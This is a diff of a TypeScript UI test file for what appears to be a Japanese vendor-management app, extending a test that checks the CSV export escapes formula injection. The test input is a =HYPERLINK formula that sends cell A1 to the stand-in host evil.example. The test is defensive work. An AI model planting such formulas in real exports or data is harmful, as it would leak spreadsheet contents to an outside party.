@@ -6,7 +6,7 @@ import defaultConfig from '../../static/config.json' with { type: 'json' }
 import { createPlatform, type Platform } from '../platform/platform.ts'
 import {
   alert, area, button, departures, dialog, fieldErrors, formMessages, goTo, heading, inAnotherTab, key, keysOf, open, paste, pause, press,
-  rows, settled, signIn, status, table, text, textbox, type, until,
+  rows, savedBy, settled, signIn, status, table, text, textbox, type, until,
 } from './open.tsx'
 import { entries, farm, groupPanel, intercept, openUsers, smallPlatform as people, takeCalls } from './peoplePage.ts'
 import { fillIn, gateResponses, isIdle, isReady, openCreate, sent, smallPlatform } from './vendorPage.ts'
@@ -151,24 +151,16 @@ test('H28 user details that hold an error, or names that are no texts, give nobo
 
 test('H29 every column of the CSV is made a text where it would be a formula, and no value adds a row or a column', async () => {
   const formula = '=HYPERLINK("http://evil.example/?"&A1,"見る")\r\n@x'
-  const type = { id: 1, name: formula }
-  const values = { name: formula, contract_number: formula, member_type: type, expiration_date: '=1+1', count: { user: -1 } }
-  await openVendors([wireVendor(values)])
-  const { click } = HTMLAnchorElement.prototype
-  const { createObjectURL } = URL
-  let saved: Blob | undefined
-  HTMLAnchorElement.prototype.click = () => {}
-  URL.createObjectURL = blob => { saved = blob as Blob; return 'blob:x' }
-  try {
-    await press('ベンダー一覧のCSV')
-    await until(() => saved !== undefined)
-  } finally {
-    HTMLAnchorElement.prototype.click = click
-    URL.createObjectURL = createObjectURL
+  const type = { id: formula, name: formula }
+  const values = {
+    id: formula, name: formula, contract_number: formula, member_type: type, expiration_date: '=1+1', count: { user: -1 },
+    notify_email_address: formula,
   }
+  await openVendors([wireVendor(values)])
+  const saved = await savedBy(() => press('ベンダー一覧のCSV'))
   const quoted = `"'${formula.replaceAll('"', '""')}"`
-  const [, ...after] = (await saved!.text()).split('ステータス\r\n')
-  assert.equal(after, [`${quoted},${quoted},${quoted},,'-1,0,0,有効\r\n`])
+  const [, ...after] = saved.text.split('利用通知メールアドレス\r\n')
+  assert.equal(after, [`${quoted},${quoted},${quoted},,'-1,0,0,有効,${quoted},${quoted},${quoted}\r\n`])
 })
 
 test('H30 a thousand failures of one kind are one message', async () => {
